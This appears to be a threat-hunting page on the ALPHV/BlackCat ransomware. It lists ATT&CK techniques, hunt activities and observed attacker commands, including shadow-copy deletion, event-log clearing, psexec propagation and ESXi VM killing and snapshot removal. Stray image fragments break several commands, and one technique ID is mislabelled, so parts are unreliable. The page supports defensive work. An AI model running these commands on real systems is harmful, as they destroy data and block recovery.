• T1003.004 - OS Credential Dumping: LSA Secrets
  • T1005 - Data from Local System
  • T1007 - System Service Discovery
  • T1021.001 - Remote Desktop Protocol (RDP)
  • T1021.002 - SMB/Windows Admin Shares
  • T1027 - Obfuscated Files or Information
  • T1027.002 - Obfuscated Files or Information: Software Packing
  • T1047 - Windows Management Instrumentation
  • T1049 - System Network Connections Discovery
  • T1053.003 - Command and Scripting Interpreter: Windows Command Shell• T1057 - Process Discovery
  • T1059 - Command and Scripting Interpreter
  • T1078 - Valid Accounts
  • T1082 - System Information Discovery
  • T1083 - File and Directory Discovery
  • T1090.003 - Multi-hop Proxy
  • T1105 - Ingress Tool Transfer
  • T1112 - Modify Registry
  • T1129 - Shared Modules
  • T1140 - Deobfuscate/Decode Files or Information
  • T1202 - Indirect Command Execution
  • T1218.003 - Signed Binary Proxy Execution: CMSTP
  • T1485 - Data Destruction
  • T1486 - Data Encrypted for Impact
  • T1489 - Service Stop
  • T1490 - Inhibit System Recovery
  • T1498 - Network Denial of Service
  • T1499 - Endpoint Denial of Service
  • T1531 - Account Access Removal
  • T1543.003 - Create or Modify System Process: Windows Service
  • T1550.002 - Use Alternate Authentication Material: Pass the Hash
  • T1552 - Unsecured Credentials
  • T1557.001 - Adversary-in-the-Middle: LLMNR/NBT-NS Poisoning and SMB Relay
  • T1560 - Archive Collected Data
  • T1562.001 - Impar Defenses: Disable or Modify Tools
  • T1567.002 - Exfiltration to Cloud Storage
  • T1569.002 - System Service: Service execution
  • T1570 - Lateral Tool Transfer

Hunt Activity

  • Suspicious SMB traffic
  • 'vssadmin' shadow copy deletions
  • Recovery mode edits or disables using 'bcedit.exe'
  • Propagation via 'psexec'
  • Use of anti-forensics tools likefileshredder
  • Collection machine UUID via WMIC commands
  • The universally unique identifier (UUID) is later used, together with the token, to identify the victim in a Tor website hosted by the malicious actors.
  • Delete volume shadow copies.
  • Increase the number of network requests that the server service can perform.
  • Stop the IIS service using the iisreset.exe, a well-known tool used to handle IIS services.
  • Execute arp command to display current ARP (Address Resolution Protocol) entries.
  • Execute Fsutil to allow the use of both remote and local symlinks.
  • Clear all event logs via wevutil.exe.cmd /c wmic csproduct get UUIDvssadmin.exe delete shadows /all /quiet
powershell.exe -nop -exec bypass -EncodedCommand LgBcAHMAcAByAGUAYQBkAC4AYgBhAHQAIABtAGsAcwBoAGEAcgBlACAAUgBFAEEARAA=
icacls c:\windows\debug\app /grant "Authenticated Users":(OI)(CI)F/T
net share app)c:\windows\debug\app /grant:everyone,READ
fsutil behavior set SymlinkEvaluation R2L:1
fsutil behavior set SymlinkEvaluation R2R:1
reg addHKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\LanmanServer\Parameters/v MaxMpxCt /d 65535 /t REG_DWORD /f
psexec.exe -accepteula \\<TARGET_HOST> -u <USERNAME> -p <PASSWORD> -s -d -f -c <ALPHV_EXECUTABLE> [FLAGS] [OPTIONS] --access-token <ACCESS_TOKEN> [SUBCOMMAND]
arp -a
%SYSTEM32%\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}
for /F \"tokens=*\" %1 in ('wevtutil.exe el') DO wevtutil.exe cl \"%1\""
/c \\DOMAIN.LOCAL \netlogon\locker.exe --access-token CODE
gpupdate /force

Linux / VMware ESXi

esxcli --formatter=csv --format-param=fields=="WorldID,DisplayName" vm process list
awk -F "\"*,\"*" '{system("esxcli vm process kill--type=force --world-id="$1)}'
for i in `vim-cmd vmsvc/getallvms| awk '{print$1}'`;do vim-cmdvmsvc/snapshot.removeall$i & done
Last modified 9mo ago